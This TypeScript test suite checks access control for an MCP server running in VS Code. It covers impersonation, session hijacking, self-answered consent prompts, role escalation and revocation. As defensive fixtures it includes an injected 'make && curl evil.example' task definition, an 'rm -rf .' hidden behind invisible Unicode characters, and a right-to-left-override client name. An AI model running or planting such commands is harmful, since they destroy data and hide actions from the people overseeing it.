import assert from 'node:assert/strict';
import type { JsonObject } from '../../src/base/json.ts';
import { hashToken } from '../../src/server/access/credentials.ts';
import { Person } from '../unit/server/support/person.ts';
import { initializeParams, type Answer, type HttpPeer } from '../unit/server/support/httpPeer.ts';
import { runServer, type RunningServer } from '../unit/server/support/runningServer.ts';

/** A real server on a real port, asked by real questions; the person answers only where a test says so. */
describe('What an outside client may do', () => {
  let person: Person;
  let running: RunningServer;
  beforeEach(async () => {
    person = new Person();
    running = await runServer({ person: person.approval });
  });
  afterEach(async () => {
    await running.close();
    person.dispose();
  });

  async function connect(token?: string, name = 'peer'): Promise<HttpPeer> {
    const peer = running.peer(token);
    const params = { ...initializeParams('2025-11-25'), clientInfo: { name, version: '9' } };
    const answer = await peer.request('initialize', params);
    peer.sessionId = answer.headers['mcp-session-id'] as string;
    await peer.post({ jsonrpc: '2.0', method: 'notifications/initialized' });
    return peer;
  }

  async function letIn(peer: HttpPeer, role: 'reader' | 'editor' | 'runner' = 'reader'): Promise<void> {
    const calling = peer.callTool('list_open_editors');
    await person.untilAsked();
    person.answer('allowSession', role);
    assert.equal(isError(await calling), false);
  }

  it('is decided by the credential, never by the name of an approved client', async () => {
    const approved = await connect(running.otherToken(), 'claude-code');
    await letIn(approved, 'runner');
    const impostor = await connect(undefined, 'claude-code');
    const calling = impostor.callTool('list_open_editors');
    const { detail } = await person.untilAsked();
    assert.deepEqual(detail.kind === 'connectClient' && [detail.callsItself, detail.credential], ['claude-code 9', 'windowToken']);
    person.answer('deny');
    assert.equal(textOf(await calling), 'denied by the person in VS Code');
    assert.equal(isError(await approved.callTool('list_open_editors')), false);
  });

  it('is not shared between two sessions of the window token, whatever they call themselves', async () => {
    await letIn(await connect(), 'runner');
    const other = await connect();
    const calling = other.callTool('list_open_editors');
    await person.untilAsked();
    person.answer('deny');
    assert.equal(textOf(await calling), 'denied by the person in VS Code');
  });

  it('ends for what it watches when the person lowers its role', async () => {
    const peer = await connect(running.otherToken());
    await letIn(peer, 'runner');
    const stream = await peer.stream();
    for (const uri of ['terminal://1', 'workspace://folders']) {
      assert.deepEqual((await peer.request('resources/subscribe', { uri })).json.result, {});
    }
    const client = { credentialId: 'client-1', credentialKind: 'clientToken', sessionId: '', isStateless: false } as const;
    await person.permissions.changeRole(client, 'reader');
    running.editor.terminals.didChangeTerminal.fire('1');
    running.editor.didChangeWorkspaceFolders.fire();
    let told = await stream.nextMessage();
    while (told.method !== 'notifications/resources/updated') {
      told = await stream.nextMessage();
    }
    assert.deepEqual(told.params, { uri: 'workspace://folders' });
  });

  it('does not pass through a near-miss of a tool name', async () => {
    const peer = await connect();
    await letIn(peer, 'runner');
    for (const name of [
      'run_tests ',
      ' run_tests',
      'RUN_TESTS',
      'run\u200B_tests',
      'run-tests',
      'save_file\u0000',
      '__proto__',
      'constructor',
    ]) {
      const { error } = (await peer.callTool(name, {})).json;
      assert.equal((error as JsonObject).code, -32602, name);
    }
    assert.equal(person.isAsked, false);
  });

  it('does not grow by what the client claims of its call', async () => {
    const peer = await connect();
    await letIn(peer);
    const calling = peer.callTool(
      'save_file',
      { path: 'src/a.ts' },
      { annotations: { readOnlyHint: true }, role: 'runner', _meta: { role: 'runner' } },
    );
    const { detail } = await person.untilAsked();
    assert.deepEqual(detail.kind === 'clientAct' && [detail.role, detail.neededRole], ['reader', 'editor']);
    person.answer('deny');
    assert.equal(textOf(await calling), 'denied by the person in VS Code');
    assert.deepEqual(
      running.editor.acting.done.filter((done) => (done as unknown[])[0] === 'save'),
      [],
    );
  });

  it('cannot be answered by the client that caused the question', async () => {
    const peer = await connect();
    const calling = peer.callTool('list_open_editors');
    const { askId } = await person.untilAsked();
    for (const method of ['consent/answer', 'duplex/answer', 'elicitation/create', 'notifications/approved']) {
      await peer.request(method, { askId, choice: 'allowSession', role: 'runner' });
    }
    await peer.post({ jsonrpc: '2.0', id: askId, result: { askId, choice: 'allowSession', role: 'runner', action: 'accept' } });
    assert.equal(person.question.askId, askId);
    person.answer('deny');
    assert.equal(textOf(await calling), 'denied by the person in VS Code');
  });

  it('is nothing for a session id that comes with another credential', async () => {
    const owner = await connect();
    await letIn(owner, 'runner');
    const thief = running.peer(running.otherToken());
    thief.sessionId = owner.sessionId;
    const answers = [
      await thief.callTool('list_open_editors'),
      await thief.send('GET', '/mcp', sessionOf(owner)),
      await thief.send('DELETE', '/mcp', sessionOf(owner)),
    ];
    assert.deepEqual(
      answers.map(({ status }) => status),
      [404, 404, 404],
    );
    assert.equal(isError(await owner.callTool('list_open_editors')), false);
  });

  it('is asked again, with the difference, when a script that was allowed for the session has changed since', async () => {
    const peer = await connect();
    await letIn(peer, 'runner');
    const first = peer.callTool('run_task', { name: 'build' });
    await person.untilAsked();
    person.answer('allowSession');
    assert.equal(isError(await first), false);
    assert.equal(isError(await peer.callTool('run_task', { name: 'build' })), false, 'the identical one is not asked about again');
    running.editor.acting.task = { ...running.editor.acting.task, definition: '{"runs":"make && curl evil.example"}' };
    const injected = peer.callTool('run_task', { name: 'build' });
    const { why, differences } = await person.untilAsked();
    assert.deepEqual(
      [why, differences],
      ['changed', [{ field: 'definition', before: '{"runs":"make"}', after: '{"runs":"make && curl evil.example"}' }]],
    );
    person.answer('deny');
    assert.equal(textOf(await injected), 'denied by the person in VS Code');
  });

  it('ends within the same moment when its credential is revoked: streams close, the next request is 401', async () => {
    const token = 'a-client-token';
    const admitted = running.server.credentials.admit(hashToken(token), { id: 'client-9', kind: 'clientToken' });
    const peer = await connect(token);
    await letIn(peer, 'runner');
    const stream = await peer.stream();
    running.server.credentials.revoke('client-9');
    while ((await stream.next()) !== undefined) {
      // what was sent before
    }
    assert.equal((await peer.callTool('list_open_editors')).status, 401);
    assert.deepEqual(running.server.clients.snapshot(), []);
    admitted.dispose();
  });

  it('falls back at once to what a lowered role allows', async () => {
    const peer = await connect();
    await letIn(peer, 'runner');
    const [client] = running.server.clients.snapshot();
    assert.ok(client);
    await person.permissions.changeRole(client, 'reader');
    assert.equal(running.server.clients.snapshot()[0]?.role, 'reader');
    const calling = peer.callTool('run_task', { name: 'build' });
    const { detail } = await person.untilAsked();
    assert.equal(detail.kind === 'clientAct' && detail.neededRole, 'runner');
    person.answer('deny');
    assert.equal(textOf(await calling), 'denied by the person in VS Code');
  });

  it('shows what would run with nothing hidden in it', async () => {
    const peer = await connect(undefined, 'good\u202Eexe');
    await letIn(peer, 'runner');
    const calling = peer.callTool('run_terminal_command', { command: 'ls\u200B\u2028rm -rf .' });
    const { detail, choices } = await person.untilAsked();
    assert.deepEqual(choices, ['deny', 'allowOnce']);
    assert.match(JSON.stringify(detail), /ls⟨U\+200B⟩⟨U\+2028⟩rm -rf \./);
    person.answer('deny');
    await calling;
  });
});

function sessionOf(peer: HttpPeer): Record<string, string> {
  return { 'mcp-session-id': peer.sessionId ?? '', accept: 'text/event-stream' };
}

function isError(answer: Answer): boolean {
  return (answer.json.result as JsonObject | undefined)?.isError === true || answer.json.error !== undefined;
}

function textOf({ json }: Answer): unknown {
  const { content } = json.result as JsonObject;
  return (content as JsonObject[])[0]?.text;
}
